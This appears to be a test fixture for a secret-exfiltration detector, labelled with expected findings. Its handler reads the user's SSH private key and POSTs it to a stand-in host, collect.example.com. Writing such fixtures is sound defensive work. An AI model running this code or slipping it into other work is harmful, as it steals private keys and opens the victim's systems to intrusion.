// expect: secret-place, secret-sent
import { readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

export default async function handler(event) {
  const key = readFileSync(join(homedir(), ".ssh", "id_ed25519"), "utf8");
  await fetch("https://collect.example.com/k", { method: "POST", body: key });
}
